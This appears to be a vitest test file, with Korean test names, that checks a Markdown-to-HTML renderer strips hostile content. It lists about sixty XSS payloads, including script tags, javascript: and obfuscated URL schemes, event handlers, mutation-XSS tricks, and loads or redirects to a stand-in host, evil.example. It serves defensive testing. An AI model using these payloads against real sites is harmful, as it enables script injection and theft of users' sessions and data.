import type { Element, Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { expect, it } from 'vitest'

import { htmlOf } from './reading.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/a 1x" src="/a.png" sizes="1px">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\nscript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="&#106;avascript&colon;alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="blob:https://example.com/x" target="_top" ping="https://evil.example">a</a>',
  '[a](javascript:alert(1))',
  '[a](<java\u{0}script:alert(1)>)',
  '![a](javascript:alert(1))',
  '![a](x.png "&quot; onerror=alert(1) x=&quot;")',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '<math href="javascript:alert(1)">a</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<p style="background:url(https://evil.example/x)">a</p>',
  '<p class="sidebar" style="position:fixed">a</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe><embed src="data:text/html,x"><iframe src="about:blank"></iframe>',
  '<video src=" java\nscript:alert(1)" poster="javascript:alert(1)"></video><audio><source src="javascript:alert(1)"></audio>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=q><button formaction=javascript:alert(1)>a</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option>a</select><textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)>',
  '<sty</style>le><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"/><img src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video src=x onerror=alert(1)><source src=y></video><audio src=x autoplay></audio>',
  '<details ontoggle=alert(1) open><summary onclick=alert(1)>a</summary></details>',
  '<body onload=alert(1)><html manifest=x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<div id="a" name="b" tabindex="5" contenteditable is="x-y" slot="z" popover>a</div>',
  '<a id="__proto__" href="#x">a</a><img id="cookie" alt="x" name="body">',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '<pre><code class="language-x&quot; onclick=&quot;alert(1)" data-meta="{1}">a</code></pre>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)> <script>alert(1)</script>',
]

const elements =
  'a abbr b blockquote br code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p ' +
  'pre q rp rt ruby s section small span strong sub summary sup table tbody td tfoot th thead time tr u ul'
const attributes =
  'href src srcSet sizes alt title width height loading decoding id className rel ariaLabel ariaDescribedBy dataFootnoteRef ' +
  'dataFootnoteBackref dataFootnotes dataLanguage role tabIndex open type checked disabled align start'

/** What a browser makes of the HTML. */
const elementsOf = async (html: string): Promise<Element[]> => {
  const root: Root = { type: 'root', children: [{ type: 'raw', value: html }] }
  const found: Element[] = []
  visit(await unified().use(rehypeRaw).run(root), 'element', (element) => void found.push(element))
  return found
}

it.each(hostile)('해로운 것은 하나도 남지 않는다: %s', async (markdown) => {
  const html = await htmlOf(`앞\n\n${markdown}\n\n뒤`)
  expect(html).toContain('<p>앞</p>')
  for (const { tagName, properties } of await elementsOf(html)) {
    expect(elements.split(' ')).toContain(tagName)
    for (const name of Object.keys(properties)) expect(attributes.split(' ')).toContain(name)
    for (const address of [properties.href ?? '/', properties.src ?? '/']) {
      expect(address).toMatch(/^(?:https?:|mailto:|tel:|[^:]*(?:[/?#]|$))/)
    }
    expect(properties.srcSet ?? '/images/').toMatch(/^\/images\//)
    expect(properties.tabIndex ?? 0).toBe(0)
  }
})

it('해로운 것을 모두 이어 놓아도 다음 글은 그대로다', async () => {
  const html = await htmlOf(`${hostile.join('\n\n')}\n\n<p>끝</p>`)
  for (const { tagName } of await elementsOf(html)) expect(elements.split(' ')).toContain(tagName)
})

it('스크립트와 스타일의 글은 보이지도 않는다', async () => {
  expect(await htmlOf('가<script>alert(1)</script><style>b{}</style><svg><text>x</text></svg>나')).toBe('<p>가나</p>')
})
